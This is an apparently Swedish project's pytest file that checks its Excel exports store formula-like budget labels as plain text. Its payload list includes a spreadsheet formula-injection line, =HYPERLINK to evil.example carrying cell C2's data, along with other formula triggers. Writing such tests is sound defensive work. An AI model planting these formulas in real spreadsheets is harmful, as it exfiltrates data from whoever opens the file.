"""Excel files hold a person's text as text: a budget line or an intervention named like a
formula (=HYPERLINK(…), +, -, @, a leading tab) is never a live formula in the tables that
board members and auditors download."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from tests.documents.conftest import FOLLOWUP_YAML

import samordna
from samordna.core.spreadsheet import append_row
from samordna.documents.generate import document_file
from samordna.finsam.planfile import read_plan

EVIL = ['=HYPERLINK("https://evil.example/?d="&C2,"Se bilaga")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
        "\t=1+1", "\r=1+1"]


def _formula_plan():
    text = FOLLOWUP_YAML.replace("    name: Steget\n", f"    name: '{EVIL[1]}'\n")
    lines = "".join(f"      - {{id: evil{i}, label: {_quoted(label)}, kind: other, amount: {i + 1}}}\n"
                    for i, label in enumerate(EVIL))
    assert "costs:\n" in text
    text = text.replace("costs:\n", "costs:\n" + lines, 1)
    return read_plan(text)[0]


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def test_cells_that_look_like_formulas_are_written_as_text():
    plan = _formula_plan()
    result = document_file(plan=plan, kind="tables", fmt="xlsx", year=plan.plan.year)
    wb = load_workbook(io.BytesIO(result.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value: c for c in cells if c.value in EVIL}
    assert set(found) == set(EVIL)
    assert {v: (c.data_type, c.quotePrefix) for v, c in found.items()} == {v: ("s", True) for v in EVIL}


def test_append_row_keeps_numbers_and_replaces_characters_a_file_cannot_hold():
    wb = Workbook()
    ws = wb.active
    append_row(ws, ["=1+1", 12, "Kansli\x07", None, "vanlig text"])
    out = io.BytesIO()
    wb.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        ("=1+1", "s"), (12, "n"), ("Kansli\ufffd", "s"), (None, "n"), ("vanlig text", "s")]
    assert [c.quotePrefix for c in row] == [True, False, False, False, False]


SRC = Path(samordna.__file__).parent


@pytest.mark.parametrize("path", sorted(p for p in SRC.rglob("*.py") if "openpyxl" in p.read_text(encoding="utf-8")
                                       and "Workbook(" in p.read_text(encoding="utf-8")),
                         ids=lambda p: str(p.relative_to(SRC)))
def test_every_excel_writer_appends_through_the_text_helper(path):
    """Any module that writes with openpyxl (makes a Workbook) uses core.spreadsheet, and never
    ws.append itself."""
    if path.name == "spreadsheet.py":
        return
    tree = ast.parse(path.read_text(encoding="utf-8"))
    appends = [n.lineno for n in ast.walk(tree) if isinstance(n, ast.Attribute) and n.attr == "append"
               and isinstance(n.value, ast.Name) and n.value.id in ("ws", "sheet", "worksheet")]
    writes_value = [n.lineno for n in ast.walk(tree) if isinstance(n, ast.Assign) and any(
        isinstance(t, ast.Attribute) and t.attr == "value" for t in n.targets)]
    imports = {a.name for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)
               and n.module == "samordna.core.spreadsheet" for a in n.names}
    assert (appends, writes_value) == ([], [])
    assert imports & {"append_row", "text_cell"}
